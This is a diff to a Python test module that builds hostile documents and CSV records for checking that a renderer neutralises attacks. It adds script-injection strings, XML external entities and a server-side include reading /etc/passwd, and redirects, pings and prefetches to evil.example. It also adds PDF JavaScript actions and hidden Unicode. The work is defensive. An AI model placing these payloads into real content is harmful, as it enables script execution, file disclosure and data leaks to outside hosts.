@@ -5,6 +5,10 @@ cell. What they would do stands in `aim`. A marker is what a reader must see if 
 beacon (`window.pwned`, a file name, a secret) is what must never appear anywhere.
 """
 
+import csv
+import io
+import json
+from pathlib import Path
 from typing import NamedTuple
 
 BEACON = "pwned"
@@ -58,8 +62,33 @@ ATTACKS = [
     Attack("null", "end a string early", f"before{NUL}after"),
     Attack("control", "steer a terminal", "\x1b[2J\x1b]0;pwned\x07 text"),
     Attack("long-word", "burst the page", "A" * 400),
+    Attack("redirect", "send the reader elsewhere", '<meta http-equiv="refresh" content="0;url=//evil.example/"><base href="//evil.example/">'),
+    Attack("stylesheet", "fetch or hide by style", "<link rel=stylesheet href=//evil.example/x.css> @import url(//evil.example/y.css); p{background:url(//evil.example/z)}"),
+    Attack("mutation", "become another tree when parsed again", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=13&gt;">'),
+    Attack("invoker", "press the page's own buttons", '<button popovertarget="theme" commandfor="theme" command="show-modal">[28]</button><a ping="//evil.example/" href="#sources">x</a>'),
+    Attack("speculation", "have the browser fetch ahead", '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script><link rel=prerender href="//evil.example/">'),
+    Attack("string-end", "end a string of the script", "\u2028window.pwned=14\u2029 \\u003c/script\\u003e `${window.pwned=15}` ');window.pwned=16//"),
+    Attack("external-entity", "read a file as XML does", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;<xi:include href="file:///etc/passwd" parse="text"/>'),
+    Attack("server-include", "run on the server", '<!--#exec cmd="touch pwned.txt" --> <!--#include virtual="/etc/passwd" -->'),
+    Attack("pdf-action", "run when the paper is opened", ") >> /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Launch (pwned) endobj"),
+    Attack("variation-selectors", "carry unseen bytes", "smiling\ufe0f\U000e0148\U000e0165\U000e016c\U000e016c\U000e016f words"),
+    Attack("line-separators", "break a line where none is", "one\x0btwo\x0cthree\x85four\u2028five\u2029six\x1cseven"),
+    Attack("reference-definition", "define what a link of the brief means", "[sources]: javascript:window.pwned=17 *[GB]: evil [^1]: evil"),
+    Attack("text-directive", "add to the address of a link", "#:~:text=evil&text=-,x,-%0d%0aSet-Cookie:%20a=b#claim-trade"),
+    Attack("nesting", "exhaust a parser", "[({<" * 300),
+    Attack("imitated-signs", "look like a sum", "$2\u066b5 billion, \u24605 per cent, \uff22\uff50 \U0001d5f5\U0001d5fc\U0001d5f9\U0001d5f1\U0001d5f2\U0001d5f1 30\u066a"),
     Attack("path", "leave the folder", "../../../../etc/passwd file:///etc/passwd"),
 ]
+# The classes that a row of the record can carry as well as a sentence: all, its tables being read and shown as text.
+COLUMNS = (
+    "id episode date precision sort_date year event kind tags tags_indirect stance twin chain actors_first actors_second "
+    "actor_type place publisher title url published same_as second_url side confidence tier since note"
+).split()
+FIGURES = (
+    "id measure period value unit as_reported bound low high kind basis derived reporter publisher url published "
+    "second_url note inference"
+).split()
+QUERIES = "no round year family topic query results outcome".split()
 # In cards: values that are refused outright, by field.
 REFUSED_CARDS = [
     Attack("card-traversal", "read another file", "../../etc/passwd"),
@@ -86,3 +115,61 @@ def document(attacks=ATTACKS) -> str:
         for number, attack in enumerate(attacks, 1)
     )
     return f"{opening}{body}\n"
+
+
+def record(folder: Path) -> None:
+    """A public record in `folder`, each row with an attack in every cell that holds words, and links that would run."""
+    rows = [_event(number, attack.payload) for number, attack in enumerate([*ATTACKS, *REFUSED_LINKS])]
+    for row, attack in zip(rows[-len(REFUSED_LINKS) :], REFUSED_LINKS, strict=True):
+        row |= {"url": attack.payload, "second_url": attack.payload, "event": f"A link that {attack.name} carries"}
+    figure = dict.fromkeys(FIGURES, "") | {
+        "id": "a-sum", "measure": "trade", "period": "2024", "value": "5", "unit": "USD million", "bound": "exact",
+        "low": "5", "high": "5", "kind": "flow", "url": "https://example.org/sum", "published": "2024-05-03",
+        "as_reported": ATTACKS[0].payload, "reporter": ATTACKS[3].payload, "publisher": ATTACKS[8].payload,
+    }  # fmt: skip
+    folder.mkdir(parents=True)
+    tables = {"events": (COLUMNS, rows), "figures": (FIGURES, [figure]), "queries": (QUERIES, [])}
+    for name, (columns, lines) in tables.items():
+        out = io.StringIO(newline="")
+        writer = csv.DictWriter(out, columns)
+        writer.writeheader()
+        writer.writerows(lines)
+        (folder / f"{name}.csv").write_bytes(out.getvalue().encode())
+    fields = {name: [{"name": c, "type": "string", "description": c} for c in columns] for name, (columns, _) in tables.items()}
+    resources = [{"path": f"{name}.csv", "schema": {"fields": one}} for name, one in fields.items()]
+    (folder / "datapackage.json").write_text(json.dumps({"name": "hostile", "resources": resources}))
+
+
+def row(number: int) -> str:
+    """The id of the row that carries the attack of that number."""
+    return f"2024-05-{number:03d}"
+
+
+def in_a_cell(payload: str) -> str:
+    """An attack as a table can hold it: a null byte would end the reading, and is tried in the document."""
+    return payload.replace("\x00", "\ufffd")
+
+
+def _event(number: int, payload: str) -> dict[str, str]:
+    words = in_a_cell(payload)
+    return dict.fromkeys(COLUMNS, "") | {
+        "id": row(number), "episode": f"e{number}", "date": "2024-05-03", "precision": "day",
+        "sort_date": "2024-05-03", "year": "2024", "kind": "meeting", "tags": "energy", "stance": "neutral",
+        "twin": "false", "actor_type": "government", "side": "third", "tier": "core", "since": "1", "published": "2024-05-03",
+        "url": f"https://example.org/{number}", "event": f"Event {number}: {words}", "confidence": "high",
+        **dict.fromkeys(("actors_first", "actors_second", "place", "publisher", "title", "note"), words),
+    }  # fmt: skip
+
+
+def mapped(subject: str) -> str:
+    """The subject of the scaffold with that record in it."""
+    def columns(names):
+        return "{" + ", ".join(f'"{name}": "{name}"' for name in names) + "}"
+
+    tables = {"events": COLUMNS, "figures": FIGURES, "queries": QUERIES}
+    told = "".join(f"  {name}: {{file: {name}.csv, columns: {columns(names)}}}\n" for name, names in tables.items())
+    tagged = subject.replace('{id: energy, label: Energy, colour: "#B45F06"}', '{id: energy, label: Energy, colour: "#B45F06", tags: [energy]}')
+    return (
+        f"{tagged}\nactors: [{{id: all, label: all, types: [government]}}]\n"
+        f"tiers: [{{id: core, label: main, tiers: [core]}}]\nrecord:\n  folder: record\n{told}"
+    )
